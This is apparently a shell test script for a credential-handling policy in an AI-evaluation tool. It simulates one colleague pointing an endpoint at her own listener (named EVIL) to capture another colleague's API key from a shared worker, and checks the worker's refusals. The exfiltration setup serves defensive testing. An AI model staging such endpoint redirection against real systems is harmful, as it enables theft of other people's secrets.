#!/bin/sh
# pg-relay.sh: tests/sim/sim-relay.sh's attacks on a shared PostgreSQL
# database, each colleague logged in as herself (the actor of every entry is
# the login). The worker runs as bob, whose credentials-allowed names
# "env:RITA_KEY rita": alice writes rita's reference on her own endpoint,
# pointed at her listener, and queues it; bob's worker refuses, naming the
# reference, alice and rita, and the listener receives not one byte. An edit
# that removes the label and sets it again in one go clears no writer; rita's
# reference on an endpoint whose URL alice chose goes once rita confirms it.
. "$TESTS_SRCDIR/lib/lib.sh"
. "$TESTS_SRCDIR/lib/pg-lib.sh"
. "$TESTS_SRCDIR/lib/sim-lib.sh"

pg_start
pg_login owner CREATEROLE
for l in alice rita bob; do pg_login "$l"; done
pg_createdb team owner

export RITA_KEY=sk-rita-0123456789abcdef
sim_start --tenants "ritakey=$RITA_KEY" || exit 1
listener_start "$T/alice.bytes"
EVIL=$LISTEN_URL
like "$EVIL" '^http://127\.0\.0\.1:[0-9]+$' "alice's listener is up"
ALLOW="$XDG_CONFIG_HOME/aivet/credentials-allowed"
mkdir -p "$XDG_CONFIG_HOME/aivet"
printf '# rita keeps her key in this worker'"'"'s environment for her endpoints\nenv:RITA_KEY rita\n' >"$ALLOW"
chmod 600 "$ALLOW"
as() { _l=$1; shift; run --db "$(pg_url team "$_l")" "$@"; }
q() { pg_sql -d team "$1"; }
# work: one pass of bob's worker; $rc, and $error the newest entry's error.
work() {
	as bob worker --once --name w1
	error=$(q "SELECT coalesce(error, 'none') FROM probe_queue ORDER BY id DESC LIMIT 1")
}
for l in alice rita bob; do as owner db grant "$l" assessor; done
as owner vendor add A
as owner vendor add R
as owner vendor add B
sent_to_alice() { listener_flush; cat "$T/alice.bytes" 2>/dev/null | wc -c; }
rita_requests() { grep -c 'tenant=ritakey' "$SIM_LOG"; }

# ---- the attack as it was run: alice's endpoint, rita's reference ----
as alice endpoint add A --name e --api openai --url "$EVIL/v1" --model aivet-sim-1 --context 8192 \
	--credential t=env:RITA_KEY
as alice probe queue A/e --probe echo
is "$rc" 0 "alice queues her endpoint, which names rita's variable"
work
is "$rc" 3 "the worker starts nothing (exit 3)"
is "$error" "tenant 't': credential env:RITA_KEY was set on this endpoint by alice, not by you (bob); your configuration allows it only as set by rita at $ALLOW:2; nothing was sent" \
	"the refusal names the reference, alice who wrote it, and rita whom the file names"
is "$(sent_to_alice)" 0 "alice's listener received not one byte"
is "$(q "SELECT count(*) FROM probe_run")" 0 "and no run was recorded"

# ---- rita's own endpoint: the worker sends her key there, whoever queued it ----
as rita endpoint add R --name e --api openai --url "$SIM_URL/v1" --model aivet-sim-1 --context 8192 \
	--credential t=env:RITA_KEY
as alice probe queue R/e --probe echo
work
is "$rc $error" "0 none" "a run alice queued of rita's endpoint goes"
n=$(rita_requests)
ok "$(test "$n" -gt 0; echo $?)" "with rita's key, to rita's URL ($n requests)"

# ---- alice moves rita's endpoint to her listener, then queues it ----
as alice endpoint edit R/e --url "$EVIL/v1"
at=$(q "SELECT at FROM audit_log WHERE action = 'endpoint.edit' AND actor = 'alice'")
as alice probe queue R/e --probe echo
work
is "$rc $error" "3 tenant 't': endpoint R/e: its URL was changed by alice at $at to $EVIL/v1, outside the origin $SIM_URL/v1 that rita wrote credential env:RITA_KEY for; nothing was sent. If the secret may go there, rita confirms it: aivet endpoint confirm R/e --url $EVIL/v1" \
	"a URL rita neither set nor confirmed stops the worker's run"

# ---- an edit that says the credential was removed, and sets it again ----
as rita endpoint edit R/e --url "$SIM_URL/v1"
as alice endpoint edit R/e --url "$EVIL/v1" --remove-credential t --credential t=env:RITA_KEY
is "$rc $(q "SELECT ref FROM credential WHERE label = 't' AND endpoint_id = 2")" \
	"0 env:RITA_KEY" "alice removes t and sets it again in one edit: the row holds rita's reference"
as alice probe queue R/e --probe echo
work
is "$rc $error" "3 tenant 't': credential env:RITA_KEY was set on this endpoint by alice, not by you (bob); your configuration allows it only as set by rita at $ALLOW:2; nothing was sent" \
	"the removal clears no writer: the reference is alice's, and the worker refuses"
is "$(sent_to_alice)" 0 "alice's listener still received nothing"

# ---- rita sets it again: her reference, her URL ----
as rita endpoint edit R/e --url "$SIM_URL/v1" --credential t=env:RITA_KEY
as alice probe queue R/e --probe echo
work
is "$rc $error" "0 none" "once rita has set the reference and the URL again, the worker sends it"
ok "$(test "$(rita_requests)" -gt "$n"; echo $?)" "to the simulator, with her key"

# ---- rita sets her reference on an endpoint whose URL alice chose ----
as alice endpoint add B --name e --api openai --url "$EVIL/v1" --model aivet-sim-1 --context 8192
as rita endpoint edit B/e --credential t=env:RITA_KEY
is "$rc" 0 "rita sets her reference on alice's endpoint B/e"
b_at=$(q "SELECT at FROM audit_log WHERE action = 'endpoint.add' AND actor = 'alice' ORDER BY seq DESC LIMIT 1")
as alice probe queue B/e --probe echo
work
is "$rc $error" "3 tenant 't': endpoint B/e: credential env:RITA_KEY was set by rita, but its URL $EVIL/v1 by alice at $b_at, and rita has not confirmed it; your configuration takes rita's reference only for a URL rita set or confirmed; nothing was sent. If the secret may go there, rita confirms it: aivet endpoint confirm B/e --url $EVIL/v1" \
	"the reference is rita's but the URL alice's: the worker refuses, naming both and the confirmation"
is "$(sent_to_alice)" 0 "alice's listener received nothing"

# ---- the file names writers; a line without one allows nothing ----
printf 'env:RITA_KEY\n' >"$ALLOW"
as alice probe queue R/e --probe echo
work
is "$rc $error" "3 tenant 't': $ALLOW:1: 'env:RITA_KEY' names no single writer; write 'env:RITA_KEY LOGIN', LOGIN being who sets that reference on the endpoints whose runs may send it" \
	"a line without a writer is refused, with its line"
printf 'env:RITA_KEY rita alice\n' >"$ALLOW"
as alice probe queue R/e --probe echo
work
like "$rc $error" "^3 tenant 't': $ALLOW:1: 'env:RITA_KEY' names no single writer" "nor two writers on one line"
rm "$ALLOW"
as alice probe queue A/e --probe echo
work
is "$rc $error" "3 tenant 't': credential env:RITA_KEY was set by alice, not by you (bob), and your configuration does not allow it; nothing was sent. If you mean to send that secret as alice sets it, add the line 'env:RITA_KEY alice' to $ALLOW" \
	"without the file, the refusal says which line would allow it"
is "$(sent_to_alice)" 0 "alice's listener received nothing, from first to last"

# ---- rita confirms the URL alice chose: from then on her key goes there ----
printf 'env:RITA_KEY rita\n' >"$ALLOW"
as rita endpoint confirm B/e --url "$EVIL/v1"
as alice probe queue B/e --probe echo --timeout 5
work
listener_flush
like "$(cat "$T/alice.bytes")" "Authorization: Bearer $RITA_KEY" "once rita confirms it, the worker sends her key there"
sim_stop
done_testing
